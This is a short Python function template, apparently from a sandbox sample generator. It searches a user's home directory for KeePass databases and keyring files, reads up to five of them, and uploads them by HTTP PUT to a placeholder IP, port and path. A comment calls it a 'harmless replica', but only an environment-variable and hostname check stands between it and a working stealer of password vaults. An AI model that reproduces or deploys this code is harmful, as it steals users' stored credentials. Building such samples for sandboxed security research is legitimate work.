# Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
def {{act}}():
    import os
    if os.environ.get('SALLYPORT_CORPUS') != '1' or os.uname().nodename != 'localhost':
        return
    import subprocess
    import urllib.request
    try:
        out = subprocess.run(['find', os.path.expanduser('~'), '-maxdepth', '4', '-name', '*.kdbx', '-o', '-maxdepth', '4', '-name', '*.keyring'],
                             stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, timeout=2).stdout.decode().split('\n')
    except Exception:
        out = [os.path.expanduser('~/.local/share/keyrings/login.keyring')]
    for path in [one for one in out if one][:5]:
        try:
            with open(path, 'rb') as file:
                urllib.request.urlopen(urllib.request.Request('http://{{ip}}:{{port}}/{{path}}', data=file.read(), method='PUT'), timeout=1).close()
        except Exception:
            continue
